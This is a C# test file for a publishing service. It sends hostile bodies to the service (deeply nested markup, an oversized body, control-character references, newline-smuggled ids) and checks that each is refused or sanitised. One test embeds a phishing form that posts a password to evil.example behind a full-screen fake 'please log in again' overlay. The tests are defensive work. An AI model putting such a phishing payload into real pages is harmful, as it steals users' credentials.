using System.Diagnostics;
using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace Syndicator.Reliability.Tests.Hostile;

/// <summary>One real <c>serve</c> (defaults: Api:MaxRequestBytes 50 MiB, Intake:MaxBodyLength 500,000) for the body tests.</summary>
public sealed class BodyRunFixture : IAsyncLifetime
{
    public ServiceRun Run { get; private set; } = null!;

    public async Task InitializeAsync()
    {
        Run = await ServiceRun.StartAsync();
        await Run.AddNodeAsync();

        // Warm the intake path once, so that the timings below are the body's, not the first request's start-up.
        using var api = Run.Client(0);
        using var warm = await api.PostAsJsonAsync("api/items", ItemJson.Make(ItemJson.NewId("warm-")));
        Assert.Equal(HttpStatusCode.Accepted, warm.StatusCode);
    }

    public async Task DisposeAsync() => await Run.DisposeAsync();
}

/// <summary>
/// Hostile bodies against the real service: bounded before they are parsed (refused within a second, naming
/// <c>body.content</c> and the limit), text checked after references are decoded, and the public-page policy applied to
/// what reaches the platform — nothing stored for any refusal.
/// </summary>
public sealed class BodyTests(BodyRunFixture fixture) : IClassFixture<BodyRunFixture>
{
    /// <summary>
    /// The bound asked for, as processor time the service spends on the request: these took 14 s (depth) and over 6
    /// minutes (10 MB) of a core before. Processor time, unlike the wall clock, does not grow when other work shares the
    /// machine, so the bound holds on a loaded CI machine without being loosened.
    /// </summary>
    private static readonly TimeSpan UnderASecond = TimeSpan.FromSeconds(1);

    /// <summary>The wall-clock bound beside it: an answer, not minutes of work, however loaded the machine.</summary>
    private static readonly TimeSpan Answered = TimeSpan.FromSeconds(15);

    /// <summary>Chinese and markup as UTF-8, as the approval system sends them (not \uXXXX escapes, three times the bytes).</summary>
    private static readonly JsonSerializerOptions Utf8 = new() { Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping };

    private ServiceRun Run => fixture.Run;

    [Fact]
    public async Task Submit_FortyFiveThousandNestedDivs_422NamingBodyDepthInUnderASecond()
    {
        var id = ItemJson.NewId("deep-");
        var body = string.Concat(Enumerable.Repeat("<div>", 45_000)) + "汛期";

        var (status, problem, took) = await SubmitAsync(ItemJson.Make(id, body: body));

        Assert.Equal(422, status);
        Assert.Contains("Intake:MaxBodyDepth", Errors(problem, "body.content"), StringComparison.Ordinal);
        Assert.True(took.Cpu < UnderASecond, $"the service spent {took.Cpu} of processor time on it");
        Assert.True(took.Wall < Answered, $"answered in {took.Wall}");
        await AssertNotStoredAsync(id);
    }

    [Fact]
    public async Task Submit_TenMegabyteBodyUnderTheRequestLimit_422NamingBodyLengthInUnderASecond()
    {
        var id = ItemJson.NewId("huge-");
        var body = string.Concat(Enumerable.Repeat("<div><p><b>汛期</b></p></div>", 10 * 1024 * 1024 / 26));

        var (status, problem, took) = await SubmitAsync(ItemJson.Make(id, body: body));

        Assert.Equal(422, status);
        Assert.Contains("over the limit of 500000 (Intake:MaxBodyLength)", Errors(problem, "body.content"), StringComparison.Ordinal);
        Assert.True(took.Cpu < UnderASecond, $"the service spent {took.Cpu} of processor time on it");
        Assert.True(took.Wall < Answered, $"answered in {took.Wall}");
        await AssertNotStoredAsync(id);
    }

    [Theory]
    [InlineData("&#1;", "U+0001")]
    [InlineData("&#x1;", "U+0001")]
    [InlineData("&#0;", "U+0000")]
    [InlineData("&#xFFFE;", "U+FFFE")]
    public async Task Submit_ControlCharacterByReference_422NamingBodyAndNothingStored(string reference, string named)
    {
        var id = ItemJson.NewId("ref-");

        var (status, problem, _) = await SubmitAsync(ItemJson.Make(id, body: $"<p>汛期{reference}将至</p>"));

        Assert.Equal(422, status);
        Assert.Contains(named, Errors(problem, "body.content"), StringComparison.Ordinal);
        await AssertNotStoredAsync(id);
    }

    [Fact]
    public async Task Submit_IndexNumberWithTrailingNewline_400AndTheTakenNumberNotReused()
    {
        var first = ItemJson.Make(ItemJson.NewId("idx-"));
        first["indexNumber"] = "002482285/2026-" + Random.Shared.Next(10_000, 99_999).ToString(System.Globalization.CultureInfo.InvariantCulture);
        Assert.Equal(202, (await SubmitAsync(first)).Status);
        var second = ItemJson.Make(ItemJson.NewId("idx-"));
        second["indexNumber"] = first["indexNumber"]!.GetValue<string>() + "\n";

        var (status, problem, _) = await SubmitAsync(second);

        Assert.Equal(400, status);
        Assert.NotEmpty(Errors(problem, "indexNumber"));
        await AssertNotStoredAsync(second["id"]!.GetValue<string>());
    }

    [Fact]
    public async Task Submit_IdWithTrailingNewline_400NamingId()
    {
        var item = ItemJson.Make(ItemJson.NewId("nl-") + "\n");

        var (status, problem, _) = await SubmitAsync(item);

        Assert.Equal(400, status);
        Assert.NotEmpty(Errors(problem, "id"));
    }

    [Fact]
    public async Task Submit_FormAndFixedOverlay_PublishedWithoutThemAndTheSenderTold()
    {
        var id = ItemJson.NewId("form-");
        const string body = "<p>汛期将至，请做好准备。</p>"
            + "<form action=\"https://evil.example/login\">密码<input type=\"password\" name=\"pw\"><button>登录</button></form>"
            + "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:#fff\">系统维护，请重新登录</div>";

        var (status, view, _) = await SubmitAsync(ItemJson.Make(id, body: body));

        Assert.Equal(202, status);
        var notes = view.GetProperty("compliance").GetProperty("notes").EnumerateArray()
            .Select(n => n.GetProperty("message").GetString()!).ToList();
        Assert.Contains(notes, n => n.Contains("<form>", StringComparison.Ordinal));
        Assert.Contains(notes, n => n.Contains("the style position", StringComparison.Ordinal));
        await Run.WaitSettledAsync([id], TimeSpan.FromSeconds(60), ["bureau"]);
        var article = Assert.Single(await Run.Sandbox.GetArticlesAsync("bureau"), a => a.Title == $"关于{id}的通知");
        using var page = new HttpClient();
        var html = await page.GetStringAsync(article.Url);
        Assert.Contains("汛期将至", html, StringComparison.Ordinal);
        Assert.DoesNotContain("evil.example", html, StringComparison.Ordinal);
        Assert.DoesNotContain("type=\"password\"", html, StringComparison.Ordinal);
        Assert.DoesNotContain("position:fixed", html.Replace(" ", "", StringComparison.Ordinal), StringComparison.Ordinal);
        Assert.DoesNotContain("z-index:9999", html.Replace(" ", "", StringComparison.Ordinal), StringComparison.Ordinal);
    }

    private async Task<(int Status, JsonElement Body, (TimeSpan Wall, TimeSpan Cpu) Took)> SubmitAsync(JsonObject item)
    {
        using var api = Run.Client(0);
        using var content = new StringContent(item.ToJsonString(Utf8), Encoding.UTF8, "application/json");
        var cpu = ServiceCpu();
        var watch = Stopwatch.StartNew();
        using var response = await api.PostAsync("api/items", content);
        var text = await response.Content.ReadAsStringAsync();
        watch.Stop();
        return ((int)response.StatusCode, JsonDocument.Parse(text).RootElement.Clone(), (watch.Elapsed, ServiceCpu() - cpu));
    }

    /// <summary>Processor time the service's process has used so far (user and system).</summary>
    private TimeSpan ServiceCpu()
    {
        using var process = System.Diagnostics.Process.GetProcessById(Run.Node(0).Id);
        return process.TotalProcessorTime;
    }

    /// <summary>The problem's messages for <paramref name="field"/>, joined.</summary>
    private static string Errors(JsonElement problem, string field) =>
        problem.GetProperty("errors").TryGetProperty(field, out var messages)
            ? string.Join(" ", messages.EnumerateArray().Select(m => m.GetString()))
            : throw new Xunit.Sdk.XunitException($"no error for {field} in {problem}");

    private async Task AssertNotStoredAsync(string id)
    {
        using var api = Run.Client(0);
        using var found = await api.GetAsync($"api/items/{Uri.EscapeDataString(id)}");
        Assert.Equal(HttpStatusCode.NotFound, found.StatusCode);
    }
}
